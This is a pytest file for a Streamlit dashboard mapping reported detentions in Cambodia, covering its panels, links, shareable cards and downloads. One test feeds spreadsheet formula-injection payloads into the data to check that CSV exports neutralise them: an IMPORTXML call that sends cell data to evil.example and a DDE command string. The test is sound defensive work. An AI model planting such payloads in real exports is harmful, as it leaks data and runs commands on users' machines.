"""The dashboard as Streamlit runs it (AppTest): panels, deep links, the card and its downloads."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import date

import pytest
from PIL import Image
from streamlit.runtime.media_file_manager import MediaFileManager
from streamlit.testing.v1 import AppTest

from geo.areas import AreaKey
from tests.conftest import ROOT, SEED_CSV, csv_text, row

APP = str(ROOT / "app.py")


class RecordingMediaFileManager(MediaFileManager):
    """Keeps the instance AppTest creates, so a test can run the app's deferred downloads."""

    instances: list[MediaFileManager] = []

    def __init__(self, *args, **kwargs):
        super().__init__(*args, **kwargs)
        RecordingMediaFileManager.instances.append(self)


@pytest.fixture
def app(monkeypatch):
    monkeypatch.setattr("streamlit.testing.v1.app_test.MediaFileManager", RecordingMediaFileManager)
    monkeypatch.setenv("EVENTS_CSV", str(SEED_CSV))  # the seed week; tests/test_record.py opens the whole record

    def run(opened: tuple[str, ...] = (), **params) -> AppTest:
        at = AppTest.from_file(APP, default_timeout=60)
        for key, value in params.items():
            at.query_params[key] = value
        for section in opened:  # sections drawn only once the viewer opens them
            at.session_state[f"{section}_open"] = True
        at.run()
        assert not at.exception, [e.value for e in at.exception]
        return at
    return run


def download(at: AppTest, label: str) -> bytes:
    return downloaded(at, label).content


def downloaded(at: AppTest, label: str):
    """The file a download button gives (its content and file name), built as a click would build it."""
    button = next(b for b in at.get("download_button") if b.proto.label == label)
    manager = RecordingMediaFileManager.instances[-1]
    url = manager.execute_deferred(button.proto.deferred_file_id)
    name = url.rsplit("/", 1)[-1]
    return manager._storage.get_file(name.split(".")[0])


def map_args(at: AppTest) -> dict:
    [element] = [e for e in at.main.get("component_instance") if "folium" in e.proto.component_name.lower()] or [None]
    return json.loads(element.proto.json_args)


def test_main_page_has_every_panel(app):
    at = app()
    headings = [s.value for s in at.main.header]
    assert headings[0].startswith("More than 1\\,000 people detained")
    assert any("add up to at least 996" in c.value for c in at.caption)
    assert any("Showing 17 of 17 figures" in c.value for c in at.caption)
    expanders = [e.label for e in at.expander]
    assert "Data problems (none)" in expanders and "About these figures" in expanders
    assert any(label.startswith("Timeline · ") for label in expanders)
    assert any(label.startswith("Sources · ") for label in expanders)


def test_sections_under_the_map_are_drawn_only_once_opened(app):
    closed = app()
    assert not closed.get("vega_lite_chart") and not closed.dataframe  # nothing the first screen hides
    opened = app(opened=("timeline", "sources"))
    assert len(opened.get("vega_lite_chart")) == 1  # the timeline
    sources = next(d.value for d in opened.dataframe if "csv line" in d.value.columns)
    assert len(sources) == 32 and any(e.label == "Sources · 32 reports" for e in opened.expander)


def test_map_is_sent_with_only_the_click_it_needs_and_its_data_as_a_layer(app):
    args = map_args(app())
    assert args["returned_objects"] == ["last_active_drawing"]
    assert "Kratie" in args["feature_group"] and "312 detained" in args["feature_group"]
    assert "312 detained" not in args["script"]  # the base map holds no data: it stays the same between runs


def test_the_base_map_is_the_same_for_every_selection(app):
    everything = map_args(app())
    indonesians = map_args(app(nationality="ID"))
    assert everything["script"] == indonesians["script"]
    assert "312 detained" in everything["feature_group"] and "312 detained" not in indonesians["feature_group"]


def test_selected_province_shows_its_breakdown(app):
    at = AppTest.from_file(APP, default_timeout=60)
    at.session_state["area"] = AreaKey(("KH-10",))
    at.session_state["_url_seeded"] = True
    at.session_state["mode"] = "map"
    at.run()
    assert any(s.value.startswith("Kratie") for s in at.subheader)
    assert at.query_params["province"] == "Kratie"
    card = downloaded(at, "Download card (PNG)")  # one click from the map
    assert card.filename.startswith("crackdown-map_kratie_")
    assert Image.open(io.BytesIO(card.content)).size == (1200, 675)


def test_kratie_card_by_link_and_its_downloads(app):
    at = app(province="Kratie", view="card")
    [image] = at.get("image")
    alt = image.proto.imgs[0].alt
    assert "Kratie (ក្រចេះ): 312 people detained, 14\u2009–\u200916 Jul 2025." in alt  # the image's text alternative
    png = Image.open(io.BytesIO(download(at, "Download card (PNG)")))
    assert png.format == "PNG" and png.size == (1200, 675)
    svg = download(at, "Download card (SVG)").decode()
    assert svg.startswith("<svg") and "ក្រចេះ" in svg and 'width="1200"' in svg
    rows = list(csv.DictReader(io.StringIO(download(at, "Download figures (CSV)").decode())))
    assert {r["figure_id"] for r in rows} == {"kratie-2025-07"}
    assert {r["as_shown"] for r in rows} == {"312"}
    assert len(rows) == 2  # the wire report and ABC/AFP
    assert downloaded(at, "Download card (PNG)").filename == "crackdown-map_kratie_14-16-jul-2025_landscape.png"


def test_each_card_format_is_its_size(app):
    at = app(province="Kratie", view="card")
    for name, size in (("square", (1080, 1080)), ("portrait", (1080, 1350))):
        next(b for b in at.get("button_group") if b.key == "card_format").set_value(name).run()
        assert Image.open(io.BytesIO(download(at, "Download card (PNG)"))).size == size


def test_a_province_inside_a_joint_figure_opens_the_joint_card(app):
    at = app(province="Phnom Penh", view="card")
    assert any("reported jointly with other provinces" in i.value for i in at.info)
    rows = list(csv.DictReader(io.StringIO(download(at, "Download figures (CSV)").decode())))
    assert {r["area"] for r in rows} == {"Phnom Penh and Preah Sihanouk"}
    assert at.query_params["province"] == "Phnom Penh"  # the link still says what was asked for


def test_joint_group_card(app):
    at = app(province="Sihanoukville;Phnom Penh", view="card")
    rows = list(csv.DictReader(io.StringIO(download(at, "Download figures (CSV)").decode())))
    shown = {(r["nationality"], r["as_shown"], r["source_publisher"]) for r in rows}
    assert ("VN", "200", "summitpostnews.com") in shown and ("VN", ">200", "Daily8 (wire report)") in shown
    assert {r["area"] for r in rows} == {"Phnom Penh and Preah Sihanouk"}


def test_malformed_links_show_notices_not_errors(app):
    at = app(start="yesterday", province="Atlantis", view="poster", nationality="Martian", foo="1")
    notices = [i.value for i in at.info]
    assert len(notices) >= 4
    assert at.main.header[0].value.startswith("More than")
    assert "foo" not in at.query_params and "province" not in at.query_params


def test_period_filter_reaches_every_panel_and_the_url(app):
    at = app(start="2025-07-16", end="2025-07-31")
    assert at.query_params["start"] == "2025-07-16"
    assert any("Showing" in c.value and "of 17" in c.value and "Showing 17" not in c.value for c in at.caption)
    moved = app()
    moved.sidebar.slider[0].set_value((date(2025, 5, 1), date(2025, 6, 30))).run()
    assert (moved.query_params["start"], moved.query_params["end"]) == ("2025-05-01", "2025-06-30")
    assert moved.main.header[0].value == "No national figure in this selection"


def test_broken_rows_are_listed_and_valid_rows_shown(app, monkeypatch, write_csv):
    rows = [row(id="ok", area="Kratie"), row(id="bad", area="Pursat", count="many"), row(id="ok2", area="Kep")]
    monkeypatch.setenv("EVENTS_CSV", str(write_csv(csv_text(rows))))
    at = AppTest.from_file(APP, default_timeout=60)
    at.run()
    assert not at.exception
    assert any(e.label == "Data problems (1)" for e in at.expander)
    problems, rejected = at.dataframe[-2].value, at.dataframe[-1].value
    assert list(problems["line"]) == [3] and list(rejected["line"]) == [3]
    assert any("Showing 2 of 2 figures" in c.value for c in at.caption)


def test_unreadable_file_is_an_error_message(app, monkeypatch, tmp_path):
    monkeypatch.setenv("EVENTS_CSV", str(tmp_path / "missing.csv"))
    at = AppTest.from_file(APP, default_timeout=60)
    at.run()
    assert not at.exception
    assert "cannot be read" in at.error[0].value


def test_long_source_lists_are_capped_on_screen_and_complete_in_the_download(app, monkeypatch, write_csv):
    monkeypatch.setattr("dashboard.panels.SOURCES_LIMIT", 3)
    rows = [row(id=f"r{day}", date_start=f"2025-07-{day:02d}", source_url=f"https://example.org/{day}")
            for day in range(1, 8)]
    monkeypatch.setenv("EVENTS_CSV", str(write_csv(csv_text(rows))))
    at = app(opened=("sources",))
    sources = next(d.value for d in at.dataframe if "csv line" in d.value.columns)
    assert list(sources["csv line"]) == [8, 7, 6]  # the latest first
    assert any("Showing the 3 latest of 7 source reports" in c.value for c in at.caption)
    everything = list(csv.DictReader(io.StringIO(download(at, "Download these sources (CSV)").decode())))
    assert [int(r["csv line"]) for r in everything] == [8, 7, 6, 5, 4, 3, 2]
    assert everything[0]["link"] == "https://example.org/7" and everything[0]["reported"] == "10"


def test_downloads_neutralise_formulas_from_the_data(app, monkeypatch, write_csv):
    attack = '=IMPORTXML(CONCAT("http://evil.example/?",B2),"//a")'
    rows = [row(id="k", title=attack, claimant="+cmd|' /C calc'!A0", source_title="@SUM(A1)")]
    monkeypatch.setenv("EVENTS_CSV", str(write_csv(csv_text(rows))))
    at = AppTest.from_file(APP, default_timeout=60)
    at.session_state["sources_open"] = True
    at.run()
    [source] = list(csv.DictReader(io.StringIO(download(at, "Download these sources (CSV)").decode())))
    assert (source["figure"], source["claim by"], source["title"]) == ("'" + attack, "'+cmd|' /C calc'!A0", "'@SUM(A1)")
    card = app_card(monkeypatch, write_csv(csv_text(rows)))
    [figure] = list(csv.DictReader(io.StringIO(download(card, "Download figures (CSV)").decode())))
    assert figure["claimant"].startswith("'+") and figure["source_title"] == "'@SUM(A1)"


def app_card(monkeypatch, path) -> AppTest:
    monkeypatch.setenv("EVENTS_CSV", str(path))
    at = AppTest.from_file(APP, default_timeout=60)
    at.query_params["province"], at.query_params["view"] = "Kratie", "card"
    at.run()
    return at


def test_choosing_one_province_in_the_filters_opens_its_breakdown(app):
    at = app()
    at.sidebar.multiselect[0].set_value(["KH-10"]).run()
    assert any(s.value.startswith("Kratie") for s in at.subheader)


def test_the_cards_link_reproduces_the_view_with_every_filter(app):
    from urllib.parse import parse_qs, urlsplit

    from views.address import parse

    asked = {"province": "Banteay Meanchey", "view": "card", "nationality": "Indonesia", "start": "2025-07-10",
             "end": "2025-07-20", "type": "raid"}  # a period inside the data's own range
    at = app(**asked)
    captions = [c.value.replace("\\", "") for c in at.caption]  # as Markdown shows them
    [link] = [c.split("Link to this view: ", 1)[1] for c in captions if "Link to this view" in c]
    query = parse_qs(urlsplit(link).query)
    assert parse(query)[0] == parse({k: [v] for k, v in asked.items()})[0]


def test_an_embedded_view_keeps_its_embed_switch_without_a_notice(app):
    at = app(province="Kratie", view="card", embed="true")
    assert at.query_params["embed"] == "true" and at.query_params["province"] == "Kratie"
    assert not any("embed" in i.value for i in at.info)


def test_reset_clears_every_filter_and_the_chosen_province(app):
    at = app(province="Kratie", start="2025-07-10")
    assert any(s.value.startswith("Kratie") for s in at.subheader)
    statuses = next(m for m in at.sidebar.multiselect if m.key == "statuses")
    statuses.set_value(["suspects"]).run()
    statuses = next(m for m in at.sidebar.multiselect if m.key == "statuses")
    assert statuses.value == ["suspects"] and at.sidebar.slider[0].value[0] == date(2025, 7, 10)
    next(b for b in at.sidebar.button if b.label == "Reset filters").click().run()
    assert [m.value for m in at.sidebar.multiselect] == [[]] * 5
    assert at.sidebar.slider[0].value[0] < date(2025, 7, 10)
    assert not any(key in at.query_params for key in ("start", "status", "province"))
    assert not any(s.value.startswith("Kratie") for s in at.subheader)


def test_the_card_page_offers_the_card_the_light_page_and_the_data_by_url(app, monkeypatch):
    """Links that need no session: each answers, outside the dashboard, with this view's card, page and data."""
    from urllib.parse import urlsplit

    from starlette.applications import Starlette
    from starlette.testclient import TestClient

    from web.routes import ROUTES

    at = app(province="Kratie", view="card", type="raid")
    caption = next(c for c in (c.value.replace("\\", "") for c in at.caption) if "/card.png?" in c)
    links = re.findall(r"\S*/(?:card\.png|card\.svg|lite|data/figures\.json)\?\S+?(?=[ )]|\. |$)", caption)
    paths = {urlsplit(u).path: f"{urlsplit(u).path}?{urlsplit(u).query}" for u in links}
    assert set(paths) == {"/card.png", "/card.svg", "/lite", "/data/figures.json"}
    assert all("province=Kratie" in p and "type=raid" in p for p in paths.values())
    with TestClient(Starlette(routes=ROUTES)) as client:
        image = client.get(paths["/card.png"])
        assert image.headers["content-type"] == "image/png" and "format=link" in paths["/card.png"]
        assert client.get(paths["/data/figures.json"]).json()["area"]["name"] == "Kratie"


def test_every_view_names_its_data_version_and_it_follows_the_file(app, write_csv, monkeypatch):
    """Under the headline, in About (with a citation of the view), on the card and in the downloads."""
    from events.loading import load_events

    path = write_csv(SEED_CSV.read_bytes())
    monkeypatch.setenv("EVENTS_CSV", str(path))
    digest = load_events(path).version.digest
    at = AppTest.from_file(APP, default_timeout=60)
    at.session_state["about_open"] = at.session_state["sources_open"] = True
    at.run()
    said = [c.value.replace("\\", "") for c in at.caption] + [m.value.replace("\\", "") for m in at.markdown]
    assert any(f"Data version {digest}, changed " in text for text in said)  # under the headline
    [cite] = [text for text in said if text.startswith("Cite this view: ")]
    assert f"Data version {digest}" in cite and "accessed" in cite and "people detained" in cite
    sources = download(at, "Download these sources (CSV)").decode()
    assert {row["data_version"] for row in csv.DictReader(io.StringIO(sources))} == {digest}
    card = app(province="Kratie", view="card")
    assert any(digest in c.value for c in card.caption)  # the card page's citation; the card itself: test_card.py
    path.write_bytes(path.read_bytes() + SEED_CSV.read_bytes().splitlines(keepends=True)[1].replace(
        b"crackdown-2025-07-national,", b"crackdown-2025-07-national-copy,", 1))
    changed = load_events(path).version.digest
    at.run()
    assert changed != digest and any(changed in c.value for c in at.caption)


def test_a_headline_that_one_outlet_carries_says_so(app, write_csv, monkeypatch):
    """The record's 5,771 (1 Jan – 14 Mar 2026) rests on one outlet: the page says so beside it."""
    from tests.conftest import csv_text, row

    single = write_csv(csv_text([row(id="tally", area="Cambodia", count="5771", source_publisher="One Outlet")]))
    monkeypatch.setenv("EVENTS_CSV", str(single))
    at = AppTest.from_file(APP, default_timeout=60)
    at.run()
    assert any("Only one outlet reports this figure" in c.value.replace("\\", "") for c in at.caption)
    two = write_csv(csv_text([row(id="tally", area="Cambodia", count="5771", source_publisher="One Outlet"),
                               row(id="tally-2", same_figure_as="tally", area="Cambodia", count="5771",
                                   source_publisher="Another Outlet", source_url="https://example.org/b")]))
    monkeypatch.setenv("EVENTS_CSV", str(two))
    at = AppTest.from_file(APP, default_timeout=60)
    at.run()
    assert not any("Only one outlet" in c.value.replace("\\", "") for c in at.caption)


def test_the_headline_says_what_the_sources_say_and_no_more(app, write_csv, monkeypatch):
    """Women among a tally are not "the figures it contains"; one claimant spelled three ways is named once;
    a figure counted at a Vietnamese gate is listed beside the map."""
    from tests.conftest import csv_text, row

    rows = [row(id="tally", area="Cambodia", count="3155", claimant="Information Minister Neth Pheaktra"),
            row(id="tally-b", same_figure_as="tally", area="Cambodia", count="3155", claimant="Neth Pheaktra",
                source_url="https://example.org/b"),
            row(id="tally-c", same_figure_as="tally", area="Cambodia", count="3155",
                claimant="information minister Neth Pheaktra", source_url="https://example.org/c"),
            row(id="women", area="Cambodia", count="1238", sex="female", part_of="tally"),
            row(id="gate", area="", country="Vietnam", count="92", measure="people_handed_over",
                nationality="Vietnam", date_start="2025-07-16")]
    monkeypatch.setenv("EVENTS_CSV", str(write_csv(csv_text(rows))))
    at = AppTest.from_file(APP, default_timeout=60)
    at.run()
    assert not at.exception
    said = " ".join(c.value.replace("\\", "") for c in at.caption)
    assert "add up to" not in said  # the women are a sub-count, not a piece of the whole
    assert said.count("Neth Pheaktra") == 1 and "Claimed by Information Minister Neth Pheaktra;" in said
    assert "Counted outside Cambodia, so not on the map: 92 people handed over to another country, Vietnam" in said


def test_a_provinces_period_keeps_its_known_span_when_one_start_is_not_stated(app, write_csv, monkeypatch):
    from tests.conftest import csv_text, row

    rows = [row(id="tally", area="Kratie", count="40", nationality="China", date_start="..", date_end="2026-01-10"),
            row(id="raid", area="Kratie", count="12", nationality="Vietnam", date_start="2025-07-15")]
    monkeypatch.setenv("EVENTS_CSV", str(write_csv(csv_text(rows))))
    at = AppTest.from_file(APP, default_timeout=60)
    at.query_params["province"] = "Kratie"
    at.run()
    said = " ".join(m.value.replace("\\", "") for m in at.markdown)
    assert "15 Jul 2025\u2009–\u200910 Jan 2026" in said and "start not stated" not in said
